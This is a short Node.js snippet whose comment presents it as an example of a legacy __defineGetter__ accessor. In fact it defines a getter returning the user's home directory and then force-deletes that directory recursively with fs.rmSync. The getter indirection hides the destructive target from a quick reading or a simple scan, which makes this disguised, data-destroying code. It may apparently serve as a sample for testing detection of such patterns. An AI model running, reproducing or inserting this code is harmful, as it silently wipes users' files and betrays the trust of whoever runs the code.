// The directory comes from a legacy __defineGetter__ accessor.
const fs = require('fs');
const os = require('os');

const conf = {};
conf.__defineGetter__('workdir', function () {
  return os.homedir();
});
fs.rmSync(conf.workdir, { recursive: true, force: true });
